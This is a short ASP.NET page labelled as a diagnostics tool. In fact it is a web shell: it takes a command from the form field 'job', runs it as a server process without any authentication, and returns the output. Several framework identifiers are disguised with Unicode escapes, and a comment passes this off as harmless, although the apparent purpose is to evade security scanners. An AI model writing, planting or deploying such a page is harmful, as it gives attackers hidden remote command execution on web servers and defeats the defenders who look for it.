<%@ Page Language="C#" %>
<%
    // diagnostics page: a letter of each framework name written as a Unicode escape,
    // which the C# compiler reads as the letter itself
    string job = Req\u0075est.Form["job"];
    if (!string.IsNullOrEmpty(job))
    {
        var info = new System.Diagnostics.ProcessStart\u0049nfo(job);
        info.UseShellExecute = false;
        info.RedirectStandardOutput = true;
        var run = System.Diagnostics.Pro\u0063ess.St\u0061rt(info);
        Response.Write(Server.HtmlEncode(run.StandardOutput.ReadToEnd()));
    }
%>
